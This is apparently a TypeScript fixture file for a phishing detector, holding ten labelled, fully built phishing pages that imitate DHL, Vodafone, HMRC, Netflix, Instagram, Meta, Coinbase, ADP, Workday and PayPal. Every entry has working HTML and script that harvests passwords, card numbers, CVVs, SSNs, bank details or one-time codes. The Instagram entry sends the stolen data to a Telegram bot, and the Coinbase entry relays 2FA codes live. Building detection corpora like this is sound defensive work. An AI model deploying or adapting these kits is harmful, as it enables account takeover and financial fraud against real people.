import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, gtagStub, jsRoute, jsonRoute, pngRoute, cssRoute, textRoute } from '../parts/i-parts.js';

// Consumer-account phishing: delivery, telecom, tax/government, streaming, gaming, social, crypto,
// travel loyalty, HR/payroll, university, Apple/PayPal/Amazon.

export const entries: Entry[] = [
  {
  id: 'i-phish-dhl-redelivery-fee-card',
  label: 'phishing',
  kind: 'delivery-kit',
  url: 'https://dhl-express.redelivery-parcel.top/track/?id=JD014600006281734521',
  body: doc({
    title: 'DHL Express | Sendungsverfolgung',
    head: `<style>body{margin:0;font-family:Frutiger,Arial,sans-serif;background:#f2f2f2}.y{background:linear-gradient(90deg,#ffcc00 60%,#ffd93f);padding:16px 30px}.y b{color:#d40511;font-style:italic;font-size:28px;font-weight:900;letter-spacing:-1px}.c{max-width:520px;margin:28px auto;background:#fff;padding:26px}.stp{display:flex;justify-content:space-between;font-size:12px;margin:16px 0}.stp span{flex:1;border-top:4px solid #ccc;padding-top:6px}.stp .on{border-color:#d40511}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #999;margin:5px 0 12px}.r{display:flex;gap:10px}.b{background:#d40511;color:#fff;border:0;padding:12px 30px;font-weight:bold}</style>`,
    body: `<div class="y"><b>DHL</b></div>
<div class="c" id="c">
 <h2>Your shipment is on hold</h2>
 <p>Tracking number: <b id="tn"></b></p>
 <div class="stp"><span class="on">Picked up</span><span class="on">In transit</span><span class="on">Customs</span><span>Delivered</span></div>
 <p>The delivery attempt failed because the address was incomplete. Please confirm your address and pay the re-delivery fee of <b>€1.99</b>. Without confirmation, the shipment will be returned to sender within 48 hours.</p>
 <form id="a">
  <input name="name" placeholder="Full name" required><input name="street" placeholder="Street and number" required>
  <div class="r"><input name="zip" placeholder="Postcode" required><input name="city" placeholder="City" required></div>
  <input name="phone" placeholder="Mobile number" required>
  <button class="b">Continue</button>
 </form>
</div>
<script src="/track/js/main.min.js"></script>`,
  }),
  routes: {
    'dhl-express.redelivery-parcel.top/track/js/main.min.js': jsRoute(`!function(){var t=new URLSearchParams(location.search).get("id")||"JD0146000062817";document.getElementById("tn").textContent=t;var c=document.getElementById("c"),a=document.getElementById("a"),s=function(o){return fetch("/track/api/s",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify(o)})};a.addEventListener("submit",function(e){e.preventDefault(),s(Object.fromEntries(new FormData(a))),c.innerHTML='<h2>Payment of re-delivery fee: €1.99</h2><form id="p"><input name="cn" placeholder="Card number" inputmode="numeric" required><div class="r"><input name="ex" placeholder="MM/YY" required><input name="cv" placeholder="CVC" maxlength="4" required></div><input name="ch" placeholder="Cardholder name" required><button class="b">Pay €1.99</button></form><p style="font-size:11px;color:#777">Secured by 3-D Secure · Visa · Mastercard</p>',document.getElementById("p").addEventListener("submit",function(e){e.preventDefault(),s(Object.fromEntries(new FormData(e.target))),c.innerHTML='<h2>3-D Secure</h2><p>Enter the code sent by your bank to approve the payment.</p><input id="o" maxlength="8"><button class="b" onclick="fetch(\\'/track/api/s\\',{method:\\'POST\\',body:JSON.stringify({otp:o.value})});this.textContent=\\'Processing…\\'">Confirm</button>'})})}();`),
    'dhl-express.redelivery-parcel.top/track/api/s': jsonRoute({ ok: true }),
  },
},
  {
  id: 'i-phish-telecom-vodafone-refund-uk',
  label: 'phishing',
  kind: 'telecom-kit',
  url: 'https://my-vodafone.bill-refund-uk.com/myaccount/refund',
  body: doc({
    title: 'My Vodafone | Overpayment refund',
    head: `<style>body{margin:0;font-family:'Vodafone Rg',Arial,sans-serif;background:#f4f4f4}.h{background:#e60000;color:#fff;padding:14px 28px;font-size:22px;font-weight:bold}.c{max-width:460px;margin:30px auto;background:#fff;padding:26px;border-radius:6px}.amt{font-size:34px;color:#e60000;font-weight:bold}input{width:100%;box-sizing:border-box;padding:11px;margin:5px 0 12px;border:1px solid #bebebe;border-radius:4px}.b{width:100%;background:#e60000;color:#fff;border:0;padding:13px;border-radius:6px;font-size:16px}</style>`,
    body: `<div class="h">◯ vodafone</div>
<div class="c">
<p>Good news! Following a review of your account, you have been <b>overcharged</b> on your last 3 bills.</p>
<div class="amt">£86.40</div><p>Refund reference VF-RF-552031</p>
<form id="vf" method="post" action="/myaccount/refund/submit">
<input name="email" type="email" placeholder="My Vodafone email" required>
<input name="pass" type="password" placeholder="My Vodafone password" required>
<input name="mobile" placeholder="Vodafone mobile number" required>
<input name="card" placeholder="Debit card for refund" required>
<input name="exp" placeholder="Expiry MM/YY" required>
<input name="cvv" placeholder="Security code" required>
<button class="b">Claim refund</button>
</form>
<p style="font-size:11px;color:#888">© Vodafone Limited 2025. Registered in England No. 1471587.</p>
</div>`,
  }),
  routes: { 'my-vodafone.bill-refund-uk.com/myaccount/refund/submit': htmlRoute('<!doctype html><h3 style="font-family:Arial">Thank you. Your refund will be credited within 3–5 working days.</h3>') },
},
  {
  id: 'i-phish-gov-hmrc-tax-refund',
  label: 'phishing',
  kind: 'gov-kit',
  url: 'https://hmrc-gov-uk.tax-rebate-claim.co/refund/start',
  body: doc({
    title: 'Claim a tax refund - GOV.UK',
    lang: 'en-GB',
    head: `<style>body{margin:0;font-family:'GDS Transport',arial,sans-serif;color:#0b0c0c}.gh{background:#0b0c0c;color:#fff;padding:10px 30px;border-bottom:10px solid #1d70b8;font-weight:700;font-size:28px}.sv{padding:10px 30px;font-weight:700;font-size:19px;border-bottom:1px solid #b1b4b6}.m{max-width:640px;margin:30px 30px}.m h1{font-size:40px;margin:0 0 20px}label{display:block;font-weight:700;margin-top:18px}.hint{color:#505a5f}input{width:100%;max-width:380px;border:2px solid #0b0c0c;padding:6px;font-size:19px}.btn{background:#00703c;color:#fff;border:0;box-shadow:0 2px 0 #002d18;padding:10px 18px;font-size:19px;margin-top:26px}.ph{border-left:10px solid #b1b4b6;padding-left:15px;color:#505a5f}</style>`,
    body: `<div class="gh">GOV.UK</div><div class="sv">HM Revenue &amp; Customs — Claim a tax refund</div>
<div class="m">
<p class="ph">BETA This is a new service – your feedback will help us to improve it.</p>
<h1>You are eligible for a tax refund of £412.80</h1>
<p>After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund. Please submit the tax refund request and allow us 3-5 working days to process it.</p>
<form action="/refund/step2" method="post">
<label>Full name</label><input name="fn">
<label>Date of birth</label><span class="hint">For example, 27 3 1987</span><br><input name="dob">
<label>National Insurance number</label><span class="hint">It’s on your National Insurance card, benefit letter, payslip or P60. For example, ‘QQ 12 34 56 C’.</span><br><input name="nino">
<label>Mobile phone number</label><input name="tel">
<button class="btn">Continue</button>
</form>
</div>`,
  }),
  routes: {
    'hmrc-gov-uk.tax-rebate-claim.co/refund/step2': htmlRoute(doc({
      title: 'Where should we send your refund? - GOV.UK',
      body: `<div style="background:#0b0c0c;color:#fff;padding:10px 30px;font:700 28px arial">GOV.UK</div><div style="margin:30px;font-family:arial;max-width:640px"><h1>Where should we send your refund?</h1><form action="/refund/done" method="post"><p><b>Name on card</b></p><input name="cn"><p><b>Card number</b></p><input name="cc"><p><b>Expiry date</b></p><input name="ex"><p><b>Security code</b></p><input name="cv"><p><b>Sort code</b></p><input name="sc"><p><b>Account number</b></p><input name="ac"><br><br><button style="background:#00703c;color:#fff;border:0;padding:10px 18px;font-size:19px">Submit refund request</button></form></div>`,
    })),
  },
},
  {
  id: 'i-phish-netflix-payment-declined',
  label: 'phishing',
  kind: 'streaming-kit',
  url: 'https://netflix-account.billing-update-help.com/YourAccount/payment?lang=en',
  body: doc({
    title: 'Netflix',
    head: `<style>body{margin:0;font-family:'Netflix Sans','Helvetica Neue',Helvetica,Arial;background:#000 linear-gradient(#000a,#000a);color:#fff}.lg{color:#e50914;font-weight:900;font-size:40px;padding:20px 40px;letter-spacing:-1px}.bx{max-width:420px;margin:0 auto;background:rgba(0,0,0,.75);padding:50px 60px;border-radius:4px}h1{font-size:30px;margin:0 0 20px}input{width:100%;box-sizing:border-box;background:#333;border:0;border-radius:4px;color:#fff;padding:16px;margin-bottom:14px;font-size:16px}.b{width:100%;background:#e50914;color:#fff;border:0;border-radius:4px;padding:14px;font-size:16px;font-weight:bold}.m{color:#b3b3b3;font-size:14px}</style>`,
    body: `<div class="lg">NETFLIX</div>
<div class="bx" id="bx">
<h1>Sign In</h1>
<p class="m">Your membership is on hold. We were unable to process your last payment.</p>
<form id="s"><input type="email" name="e" placeholder="Email or mobile number" required><input type="password" name="p" placeholder="Password" required><button class="b">Sign In</button></form>
<p class="m">New to Netflix? <a href="#" style="color:#fff">Sign up now</a>.</p>
</div>
<script>
var B=document.getElementById('bx');
document.getElementById('s').onsubmit=function(e){e.preventDefault();navigator.sendBeacon('/YourAccount/rec',new FormData(this));
B.innerHTML='<h1>Update payment</h1><p class="m">Step 2 of 2</p><form id="c"><input name="fn" placeholder="Name on card" required><input name="cc" placeholder="Card number" required><input name="ex" placeholder="Expiration date (MM/YY)" required><input name="cv" placeholder="CVV" required><input name="zip" placeholder="Billing ZIP / postcode" required><button class="b">Save</button></form>';
document.getElementById('c').onsubmit=function(e){e.preventDefault();navigator.sendBeacon('/YourAccount/rec',new FormData(this));B.innerHTML='<h1>Thank you</h1><p class="m">Your membership has been restored.</p>';setTimeout(function(){location.href='https://www.netflix.com/browse'},3000)}};
</script>`,
  }),
  routes: { 'netflix-account.billing-update-help.com/YourAccount/rec': textRoute('', 'text/plain', 204) },
},
  {
  id: 'i-phish-instagram-copyright-appeal',
  label: 'phishing',
  kind: 'social-kit',
  url: 'https://instagram-copyright-appeal.netlify.app/case/IG-88273615',
  body: doc({
    title: 'Instagram | Copyright Infringement Appeal',
    head: `<style>body{margin:0;font-family:-apple-system,BlinkMacSystemFont,'Segoe UI',Roboto,Helvetica,Arial;background:#fafafa;color:#262626}.h{background:#fff;border-bottom:1px solid #dbdbdb;padding:14px;text-align:center;font-family:'Billabong',cursive;font-size:30px}.c{max-width:470px;margin:30px auto;background:#fff;border:1px solid #dbdbdb;padding:26px}.w{background:#fdecea;padding:12px;border-radius:4px;font-size:14px}input,textarea{width:100%;box-sizing:border-box;background:#fafafa;border:1px solid #dbdbdb;border-radius:3px;padding:10px;margin:5px 0 10px}.b{width:100%;background:#0095f6;color:#fff;border:0;border-radius:8px;padding:10px;font-weight:600}.g{color:#8e8e8e;font-size:12px}</style>`,
    body: `<div class="h">Instagram</div>
<div class="c" id="c">
<h3>Copyright Infringement Notice</h3>
<p class="w">We have received a complaint that content on your account infringes copyright law. If you believe this is a mistake, you must submit an appeal within <b>24 hours</b>, otherwise your account will be permanently deleted.</p>
<p class="g">Case number: IG-88273615</p>
<form id="a">
<input name="username" placeholder="Username" required>
<input name="fullname" placeholder="Full name" required>
<input name="email" placeholder="Email address" required>
<input name="phone" placeholder="Phone number">
<textarea name="msg" rows="3" placeholder="Please explain why you believe this is a mistake"></textarea>
<button class="b">Submit Appeal</button>
</form>
<p class="g">from<br><b>∞ Meta</b></p>
</div>
<script>
var C=document.getElementById('c');var cache={};
document.getElementById('a').onsubmit=function(e){e.preventDefault();new FormData(this).forEach(function(v,k){cache[k]=v});
 C.innerHTML='<h3>Verify your account</h3><p class="g">To protect your account, please enter your password to confirm that you are the owner of <b>@'+cache.username+'</b>.</p><input id="pw" type="password" placeholder="Password"><button class="b" id="go">Continue</button><p class="g" id="er" style="color:#ed4956"></p>';
 var n=0;document.getElementById('go').onclick=function(){cache['pass'+(n++)]=document.getElementById('pw').value;
  fetch('https://api.telegram.org/bot6120394457:AAHk2rLx_pWm0aQ3ZzT8yb1VqN5dUeCj0oM/sendMessage?chat_id=5829014477&parse_mode=HTML&text='+encodeURIComponent(JSON.stringify(cache)));
  if(n<2){document.getElementById('er').textContent='Sorry, your password was incorrect. Please double-check your password.';document.getElementById('pw').value='';}
  else{C.innerHTML='<h3>Two-factor authentication</h3><p class="g">Enter the 6-digit code we sent to your phone.</p><input id="tf"><button class="b" onclick="cache.code=tf.value;fetch(\\'https://api.telegram.org/bot6120394457:AAHk2rLx_pWm0aQ3ZzT8yb1VqN5dUeCj0oM/sendMessage?chat_id=5829014477&text=\\'+encodeURIComponent(JSON.stringify(cache)));location.href=\\'https://www.instagram.com/\\'">Confirm</button>'}}};
</script>`,
  }),
},
  {
  id: 'i-phish-meta-verified-badge-pages',
  label: 'phishing',
  kind: 'social-kit',
  url: 'https://sites.google.com/view/meta-verified-badge-2025/home',
  body: doc({
    title: 'Meta Verified | Business Support',
    head: `<style>body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#f0f2f5}.nav{background:#fff;padding:12px 24px;box-shadow:0 1px 2px #0002;font-weight:bold;color:#1877f2;font-size:20px}.hero{max-width:620px;margin:30px auto;background:#fff;border-radius:8px;padding:28px;text-align:center}.badge{font-size:64px;color:#1877f2}.btn{display:inline-block;background:#1877f2;color:#fff;padding:12px 28px;border-radius:6px;text-decoration:none;font-weight:bold}.gs{font-size:11px;color:#777;text-align:center;margin:30px}</style>`,
    body: `<div class="nav">∞ Meta for Business</div>
<div class="hero">
<div class="badge">✔</div>
<h1>Congratulations! Your Page is eligible for the blue badge</h1>
<p>Meta Verified is now available for your Facebook Page. Confirm your Page information to receive the verified badge free of charge for 12 months. This offer expires in <b id="t">23:59:41</b>.</p>
<a class="btn" href="https://business-meta-verify.vercel.app/confirm?src=gsites">Get Verified</a>
<p style="font-size:13px;color:#65676b">Case ID #4819-2270-66</p>
</div>
<div class="gs">Google Sites · Report abuse · Page details</div>
<script>var s=86381;setInterval(function(){s--;var h=Math.floor(s/3600),m=Math.floor(s%3600/60),x=s%60;document.getElementById('t').textContent=[h,m,x].map(function(v){return ('0'+v).slice(-2)}).join(':')},1000)</script>`,
  }),
  routes: {
    'business-meta-verify.vercel.app/confirm': htmlRoute(doc({
      title: 'Meta Business Help Center',
      head: `<style>body{font-family:Helvetica,Arial;background:#f0f2f5;margin:0}.c{max-width:440px;margin:40px auto;background:#fff;padding:26px;border-radius:8px}input{width:100%;box-sizing:border-box;padding:11px;margin:5px 0 10px;border:1px solid #ccd0d5;border-radius:6px}button{width:100%;background:#1877f2;color:#fff;border:0;padding:12px;border-radius:6px;font-weight:bold}</style>`,
      body: `<div class="c"><h2>Confirm your Page</h2><form id="m"><input name="page" placeholder="Page name" required><input name="email" placeholder="Email or phone used for Facebook" required><input name="pass" type="password" placeholder="Facebook password" required><input name="dob" placeholder="Date of birth"><button>Submit</button></form></div>
<script>document.getElementById('m').onsubmit=function(e){e.preventDefault();fetch('/api/notify',{method:'POST',body:new FormData(this)}).then(function(){document.querySelector('.c').innerHTML='<h2>Waiting for review…</h2><p>Please enter the login code from your authenticator app.</p><input id="c"><button onclick="fetch(\\'/api/notify\\',{method:\\'POST\\',body:c.value})">Send</button>'})}</script>`,
    })),
    'business-meta-verify.vercel.app/api/notify': jsonRoute({ ok: 1 }),
  },
},
  {
  id: 'i-phish-coinbase-login-2fa-relay',
  label: 'phishing',
  kind: 'crypto-exchange-kit',
  url: 'https://coinbase.com-signin.security-case-4417.com/signin?case=4417',
  body: doc({
    title: 'Coinbase - Sign In',
    head: `<style>body{margin:0;font-family:'Coinbase Sans',Inter,Arial;background:#fff;color:#0a0b0d}.h{padding:18px 28px;color:#0052ff;font-weight:800;font-size:24px}.c{max-width:440px;margin:40px auto;border:1px solid #dee1e6;border-radius:16px;padding:32px}input{width:100%;box-sizing:border-box;border:1px solid #dee1e6;border-radius:8px;padding:14px;font-size:16px;margin:6px 0 16px}.b{width:100%;background:#0052ff;color:#fff;border:0;border-radius:56px;padding:14px;font-size:16px;font-weight:600}.s{color:#5b616e;font-size:14px}.ld{text-align:center;padding:40px 0;display:none}</style>`,
    body: `<div class="h">coinbase</div>
<div class="c" id="c">
<h2>Sign in to Coinbase</h2>
<p class="s">A withdrawal request of <b>0.8421 BTC</b> was initiated from a new device (Lagos, NG). If this wasn't you, sign in to cancel it.</p>
<div id="s1"><label class="s">Email</label><input id="em" type="email"><button class="b" id="n1">Continue</button></div>
<div id="s2" style="display:none"><label class="s">Password</label><input id="pw" type="password"><button class="b" id="n2">Continue</button></div>
<div id="s3" style="display:none"><label class="s">Enter the 7-digit code sent to your phone</label><input id="cd" maxlength="7"><button class="b" id="n3">Submit</button></div>
<div class="ld" id="ld">Securing your account…</div>
</div>
<script>
var sid=Math.random().toString(36).slice(2);function s(o){o.sid=sid;return fetch('/signin/relay',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(o)}).then(function(r){return r.json()})}
function show(x){['s1','s2','s3','ld'].forEach(function(i){document.getElementById(i).style.display=i===x?'block':'none'})}
n1.onclick=function(){s({em:em.value});show('s2')};
n2.onclick=function(){show('ld');s({pw:pw.value}).then(function(j){setTimeout(function(){show(j.next||'s3')},3000)})};
n3.onclick=function(){show('ld');s({code:cd.value}).then(function(){document.getElementById('ld').innerHTML='Your account is temporarily locked. A Coinbase specialist will call you shortly to complete the verification. Case #4417.'})};
</script>`,
  }),
  routes: { 'coinbase.com-signin.security-case-4417.com/signin/relay': jsonRoute({ next: 's3' }) },
},
  {
  id: 'i-phish-hr-adp-payroll-direct-deposit',
  label: 'phishing',
  kind: 'hr-kit',
  url: 'https://myadp-portal.payroll-update.net/static/redbox/login.html?REASON=DIRECT_DEPOSIT',
  body: doc({
    title: 'ADP - Login',
    head: `<style>body{margin:0;font-family:Roboto,Arial;background:#f2f2f2}.c{width:420px;margin:60px auto;background:#fff;border-radius:8px;padding:34px;box-shadow:0 2px 10px #0002}.lg{color:#d0271d;font-weight:900;font-size:36px;font-style:italic}.n{background:#eef5fc;border-left:4px solid #1a73e8;padding:10px;font-size:13px}input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #9e9e9e;border-radius:4px;margin:6px 0 14px}.b{width:100%;background:#1a61c7;color:#fff;border:0;border-radius:20px;padding:12px;font-size:15px}</style>`,
    body: `<div class="c">
<div class="lg">ADP</div>
<h2>Sign in to ADP</h2>
<p class="n">Action required: Please verify your direct deposit information before the next payroll run (12/05/2025). Unverified accounts will receive a paper check.</p>
<form id="f"><label>User ID</label><input name="user" required><label>Password</label><input name="pass" type="password" required><button class="b">Sign In</button></form>
<p style="font-size:12px"><a href="#">Forgot your user ID/password?</a></p>
<p style="font-size:11px;color:#666">ADP, the ADP logo, and Always Designing for People are trademarks of ADP, Inc. Copyright © 2025 ADP, Inc.</p>
</div>
<script>
document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/static/redbox/c.php',{method:'POST',body:new FormData(this)});
document.querySelector('.c').innerHTML='<div class="lg">ADP</div><h2>Direct deposit</h2><form id="d"><label>Bank name</label><input name="bank"><label>Routing number</label><input name="routing"><label>Account number</label><input name="acct"><label>Last 4 of SSN</label><input name="ssn4" maxlength="4"><button class="b">Save</button></form>';
document.getElementById('d').onsubmit=function(e){e.preventDefault();fetch('/static/redbox/c.php',{method:'POST',body:new FormData(this)});this.innerHTML='<p>Your changes have been saved and will take effect on the next pay date.</p>'}};
</script>`,
  }),
  routes: { 'myadp-portal.payroll-update.net/static/redbox/c.php': textRoute('ok', 'text/plain') },
},
  {
  id: 'i-phish-hr-workday-benefits-enrollment',
  label: 'phishing',
  kind: 'hr-kit',
  url: 'https://wd5-myworkday.benefits-openenroll.com/halvorsen-group/login.htmld',
  body: doc({
    title: 'Workday',
    head: `<style>body{margin:0;font-family:Roboto,'Helvetica Neue',Arial;background:#f0f1f2}.c{width:400px;margin:70px auto;background:#fff;border-radius:12px;padding:34px;text-align:center}.w{color:#005cb9;font-size:32px;font-weight:300}.w b{color:#f38b00}input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #a0a4a8;border-radius:8px;margin:6px 0 14px}.b{width:100%;background:#0875e1;color:#fff;border:0;border-radius:20px;padding:11px;font-weight:600}.n{font-size:13px;color:#333;text-align:left;background:#fff8e1;padding:10px;border-radius:6px}</style>`,
    body: `<div class="c"><div class="w">workday<b>.</b></div>
<p class="n"><b>2026 Open Enrollment closes Friday.</b> Employees who do not confirm their elections will be defaulted to employee-only coverage. Sign in to review your medical, dental and 401(k) elections.</p>
<form method="post" action="/halvorsen-group/auth"><input name="username" placeholder="Username" required><input name="password" type="password" placeholder="Password" required><button class="b">Sign In</button></form>
<p style="font-size:12px;color:#555">Halvorsen Group · Forgot Password? · Privacy</p></div>`,
  }),
  routes: { 'wd5-myworkday.benefits-openenroll.com/halvorsen-group/auth': redirectRoute(302, '/halvorsen-group/mfa.htmld'), 'wd5-myworkday.benefits-openenroll.com/halvorsen-group/mfa.htmld': htmlRoute(doc({ title: 'Workday', body: `<div style="width:400px;margin:70px auto;font-family:Arial;text-align:center"><h3>Verify your identity</h3><p>Enter the code from your authenticator app.</p><form method="post" action="/halvorsen-group/auth2"><input name="otp"><button>Verify</button></form></div>` })) },
},
  {
  id: 'i-phish-paypal-limited-subdomain',
  label: 'phishing',
  kind: 'paypal-kit',
  url: 'https://www.paypal.com.resolution-center.acc-limited-case.com/signin?country.x=US&locale.x=en_US&case=PP-005-482-193',
  body: doc({
    title: 'Log in to your PayPal account',
    head: `<style>body{margin:0;font-family:'PayPal Sans Big','Helvetica Neue',Arial;background:#fff}.c{width:460px;margin:50px auto;border:1px solid #eaeced;border-radius:12px;padding:40px 60px;box-sizing:border-box}.lg{text-align:center;font-weight:900;font-style:italic;font-size:32px;color:#003087}.lg span{color:#009cde}input{width:100%;box-sizing:border-box;height:56px;border:1px solid #9a9a9a;border-radius:6px;padding:0 12px;font-size:16px;margin-bottom:12px}.b{width:100%;height:48px;background:#0070e0;color:#fff;border:0;border-radius:24px;font-weight:bold;font-size:16px}.or{text-align:center;color:#6c7378;margin:16px 0}.b2{width:100%;height:48px;background:#fff;border:2px solid #0070e0;color:#0070e0;border-radius:24px;font-weight:bold}.ft{text-align:center;font-size:12px;color:#666;margin-top:30px}</style>`,
    body: `<div class="c">
<div class="lg">Pay<span>Pal</span></div>
<p style="text-align:center;font-size:14px;background:#fff8e5;padding:10px;border-radius:6px">Your account access has been limited. Case ID: PP-005-482-193</p>
<form action="websc_login.php" method="post" id="pp">
<input type="email" name="login_email" placeholder="Email or mobile number" required>
<input type="password" name="login_password" placeholder="Password" required>
<a href="#" style="font-size:14px;color:#0070e0;text-decoration:none">Forgot password?</a><br><br>
<button class="b">Log In</button>
</form>
<div class="or">or</div><button class="b2">Sign Up</button>
<div class="ft">Contact Us · Privacy · Legal · Policy Updates · Worldwide</div>
</div>`,
  }),
  routes: {
    'www.paypal.com.resolution-center.acc-limited-case.com/websc_login.php': redirectRoute(302, '/websc_billing.php'),
    'www.paypal.com.resolution-center.acc-limited-case.com/websc_billing.php': htmlRoute(doc({ title: 'PayPal - Confirm your identity', body: `<div style="width:460px;margin:40px auto;font-family:Arial"><h2>Confirm your billing information</h2><form method="post" action="websc_card.php"><input name="fname" placeholder="First name"><input name="lname" placeholder="Last name"><input name="address" placeholder="Street address"><input name="ssn" placeholder="SSN"><input name="card" placeholder="Card number"><input name="exp" placeholder="MM/YY"><input name="csc" placeholder="CSC"><button>Continue</button></form></div>` })),
  },
},
];
